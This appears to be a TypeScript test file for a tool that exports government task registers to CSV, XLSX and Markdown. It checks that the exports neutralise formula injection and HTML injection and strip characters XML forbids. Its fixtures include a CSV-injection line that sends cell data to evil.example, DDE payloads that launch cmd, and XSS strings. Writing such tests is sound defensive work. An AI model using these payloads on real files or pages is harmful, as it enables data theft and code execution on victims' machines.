// What a notice's text must not do to the person opening its register: run as an Excel formula
// (CSV), render as HTML (Markdown), or make the workbook unreadable (characters XML forbids).
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { readFileSync } from 'node:fs';
import { mkdtemp, readFile, readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { ExtractResult, type Task } from '../../src/model.js';
import { writeRegister } from '../../src/register/index.js';
import { inertCell } from '../../src/register/csv.js';
import { markdownCell } from '../../src/register/markdown.js';
import { REGISTER_COLUMNS } from '../../src/register/rows.js';
import { cleanForWriters, hasXmlForbidden } from '../../src/register/xml-chars.js';

const plan = ExtractResult.parse(JSON.parse(readFileSync(new URL('../fixtures/results/county-plan.json', import.meta.url), 'utf8')));

/** A plan whose task texts, unit names and file name are the given strings. */
function planWith(texts: string[], opts: { unit?: (i: number) => string; path?: string; title?: string } = {}): ExtractResult {
  const base = plan.tasks[0];
  const tasks: Task[] = texts.map((text, i) => ({
    ...base, id: `t-${i}`, text, path: ['一、重点任务'], deadlines: [], quantities: [],
    units: [{ name: opts.unit?.(i) ?? '县水利局', role: 'lead' }], leaders: [], owners: [],
  }));
  return { ...plan, document: { ...plan.document, title: opts.title ?? plan.document.title, source: { ...plan.document.source, path: opts.path ?? 'a.pdf' } }, tasks, warnings: [] };
}

/** RFC 4180, parsed by hand: quoted fields with doubled quotes and line breaks inside. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += c;
  }
  if (field || row.length) { row.push(field); rows.push(row); }
  return rows;
}

const DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"点此")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '＝1+1', '-5%的降幅'];
const FORMULA_FIRST = /^[=+\-@\t\r＝＋－＠]/u;

test('inertCell puts a quote before each dangerous first character and leaves other text alone', () => {
  for (const d of DANGEROUS) expect(inertCell(d)).toBe(`'${d}`);
  for (const ok of ['完成危房改造', '“=”号', '1+1', '（一）@县水利局']) expect(inertCell(ok)).toBe(ok);
});

test('CSV: every dangerous text, unit name and file name comes out inert when read back', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'taizhang-inject-'));
  const result = planWith(DANGEROUS, { unit: (i) => DANGEROUS[(i + 1) % DANGEROUS.length], path: '/tmp/=HYPERLINK("x").txt' });
  const out = join(dir, '台账.csv');
  await writeRegister([result], { format: 'csv', out });
  const rows = parseCsv((await readFile(out, 'utf8')).replace(/^\uFEFF/u, ''));
  expect(rows).toHaveLength(DANGEROUS.length + 1);
  for (const [k, row] of rows.slice(1).entries()) {
    expect(row).toHaveLength(REGISTER_COLUMNS.length);
    for (const cell of row) expect(FORMULA_FIRST.test(cell)).toBe(false);
    expect(row[2]).toBe(`'${DANGEROUS[k]}`);
    expect(row[3]).toBe(`'${DANGEROUS[(k + 1) % DANGEROUS.length]}`);
    expect(row[REGISTER_COLUMNS.findIndex((c) => c.key === '出处')].startsWith(`'=HYPERLINK("x").txt`)).toBe(true);
  }
  expect(await readdir(dir)).toEqual(['台账.csv']);
});

test('XLSX: the same texts are string cells, and the sheet XML holds no formula', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'taizhang-inject-'));
  const out = join(dir, '台账.xlsx');
  await writeRegister([planWith(DANGEROUS, { unit: () => '=县水利局' })], { format: 'xlsx', out });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(out);
  const ws = wb.getWorksheet('任务台账')!;
  // the title and document lines come first, the header is row 3
  for (let r = 4; r <= DANGEROUS.length + 3; r++) {
    const cell = ws.getRow(r).getCell(3);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    // XML reads a CR back as a line feed
    expect(cell.value).toBe(DANGEROUS[r - 4].replace(/\r/gu, '\n'));
    expect(ws.getRow(r).getCell(4).type).toBe(ExcelJS.ValueType.String);
  }
  const zip = await JSZip.loadAsync(await readFile(out));
  const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/u.test(f));
  expect(sheets.length).toBeGreaterThanOrEqual(2);
  for (const f of sheets) expect(await zip.file(f)!.async('string')).not.toMatch(/<f[ >]/u);
});

test('Markdown: HTML, entities, code spans and links in a task render as text', () => {
  const cases: [string, string][] = [
    ['<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)>'],
    ['A&amp;B', 'A&amp;amp;B'],
    ['`rm -rf`', '\\`rm -rf\\`'],
    ['[点此](javascript:alert(1))', '\\[点此\\](javascript:alert(1))'],
    ['甲|乙', '甲\\|乙'],
    ['二、重点任务 > （二）', '二、重点任务 > （二）'],
  ];
  for (const [text, want] of cases) expect(markdownCell(text)).toBe(want);
});

test('Markdown register: no raw tag from a task, a unit or a title reaches the file', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'taizhang-inject-'));
  const out = join(dir, '台账.md');
  await writeRegister([planWith(['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'], { unit: () => '<b>县水利局</b>', title: '<iframe src=x>方案' })], { format: 'md', out });
  const md = await readFile(out, 'utf8');
  expect(md).not.toMatch(/<(script|img|b|iframe)\b/iu);
  expect(md).toContain('## &lt;iframe src=x>方案');
});

const XML_BAD = ['\uFFFE', '\u0001', '\u000B', '\uFFFF', '\uD800', '\uDC00'];

test('characters XML forbids are dropped in XLSX, CSV, Markdown and JSON, with a W_XML_CHARS warning per task', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'taizhang-xmlchars-'));
  const texts = XML_BAD.map((c, i) => `第${i}项${c}任务，保留表情😀与制表\t符`);
  const result = planWith(texts, { unit: (i) => `县${XML_BAD[i]}水利局`, title: `方案${'\uFFFE'}` });
  const clean = cleanForWriters([result])[0];
  expect(clean.tasks.map((t) => t.text)).toEqual(XML_BAD.map((_, i) => `第${i}项任务，保留表情😀与制表\t符`));
  expect(clean.warnings.map((w) => [w.code, w.taskId ?? null])).toEqual([['W_XML_CHARS', null], ...texts.map((_, i) => ['W_XML_CHARS', `t-${i}`])]);
  expect(cleanForWriters([plan])[0]).toBe(plan);

  const xlsx = join(dir, '台账.xlsx');
  await writeRegister([result], { format: 'xlsx', out: xlsx });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(xlsx);
  expect(wb.getWorksheet('任务台账')!.getRow(4).getCell(3).value).toBe('第0项任务，保留表情😀与制表\t符');
  const issues = wb.getWorksheet('问题清单')!;
  expect(issues.getColumn(6).values.filter((v) => v === 'W_XML_CHARS')).toHaveLength(XML_BAD.length + 1);
  const zip = await JSZip.loadAsync(await readFile(xlsx));
  for (const f of Object.keys(zip.files).filter((n) => n.endsWith('.xml'))) {
    const xml = await zip.file(f)!.async('string');
    expect(hasXmlForbidden(xml), f).toBe(false);
  }
  for (const format of ['csv', 'md', 'json'] as const) {
    const out = join(dir, `台账.${format}`);
    await writeRegister([result], { format, out });
    const text = await readFile(out, 'utf8');
    expect(hasXmlForbidden(text), format).toBe(false);
    expect(text).toContain('第5项任务，保留表情😀');
  }
});
